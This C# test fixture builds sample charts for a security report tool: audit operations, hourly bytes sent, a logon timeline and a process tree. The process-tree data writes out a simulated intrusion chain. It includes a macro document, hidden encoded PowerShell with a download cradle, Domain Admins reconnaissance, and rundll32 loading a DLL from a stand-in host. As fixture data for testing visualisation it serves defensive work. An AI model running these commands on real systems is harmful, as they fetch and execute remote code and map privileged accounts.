using Quarry.Charts;

namespace Quarry.Reports.Tests.Charts;

/// <summary>A chart of each kind with plausible data.</summary>
internal static class SampleCharts
{
    public static readonly DateTime Start = new(2026, 3, 4, 8, 0, 0, DateTimeKind.Utc);

    public static BarChart Bars() => new("Operations", "Operation", "count",
    [
        new("FileAccessed", 1834), new("FileDownloaded", 611), new("UserLoggedIn", 598), new("MailItemsAccessed", 240), new("Set-Mailbox", 17),
        new("New-InboxRule", 3), new("14 others", 122, IsRest: true),
    ]);

    public static SeriesChart Series(int count = 240)
    {
        var points = new List<SeriesPoint>();
        for (int i = 0; i < count; i++)
        {
            double baseline = 900 + (400 * Math.Sin(i * Math.PI / 12)) + (i * 0.6);
            double value = baseline + (70 * Math.Sin(i * 1.7)) + (i == 170 ? 1900 : i == 96 ? -1100 : 0);
            bool isGap = i is > 40 and < 46;
            points.Add(new SeriesPoint(Start.AddHours(i), isGap ? double.NaN : value, baseline, isGap ? double.NaN : (value - baseline) / 90, i == 170 ? 1 : i == 96 ? -1 : 0));
        }

        return new SeriesChart("Bytes sent an hour", "TimeGenerated", "TotalBytesSent", points);
    }

    public static TimelineChart Timeline()
    {
        string[] lanes = ["alice", "bob", "svc-backup", "NT AUTHORITY\\SYSTEM"];
        var events = new List<TimelineEvent>();
        for (int i = 0; i < 60; i++)
        {
            DateTime start = Start.AddMinutes((i * 37 % 480) + (i * 3));
            events.Add(new TimelineEvent(start, i % 5 == 0 ? start.AddMinutes(10 + (i % 40)) : null, lanes[i * 7 % 4], i % 5 == 0 ? "logon session" : $"event {4600 + (i % 30)}", i is 17 or 35));
        }

        return new TimelineChart("Logons", "User", events);
    }

    public static ProcessTreeChart Tree()
    {
        (int Parent, int Depth, string Name, string? Command)[] rows =
        [
            (-1, 0, "explorer.exe", "C:\\Windows\\explorer.exe"),
            (0, 1, "OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\""),
            (1, 2, "WINWORD.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\alice\\Downloads\\invoice_2231.docm\""),
            (2, 3, "powershell.exe", "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
            (3, 4, "cmd.exe", "cmd /c whoami /all & net group \"Domain Admins\" /domain"),
            (4, 5, "whoami.exe", "whoami /all"),
            (4, 5, "net.exe", "net group \"Domain Admins\" /domain"),
            (3, 4, "rundll32.exe", "rundll32 http://cdn-assets.example.net/a.dll,Start"),
            (0, 1, "chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\chrome.exe\""),
            (8, 2, "chrome.exe", "chrome --type=renderer"),
            (-1, 0, "services.exe", null),
            (10, 1, "svchost.exe", "svchost.exe -k netsvcs -p"),
        ];
        return new ProcessTreeChart("Processes of WKS-14", [.. rows.Select((row, i) => new ProcessNode(
            row.Parent, row.Depth, row.Name, $"0x{0x4a0 + (i * 52):x}", Start.AddSeconds(i * 41), row.Command, "CONTOSO\\alice", "WKS-14", row.Command is null))]);
    }

    public static Chart[] All() => [Bars(), Series(), Timeline(), Tree()];
}
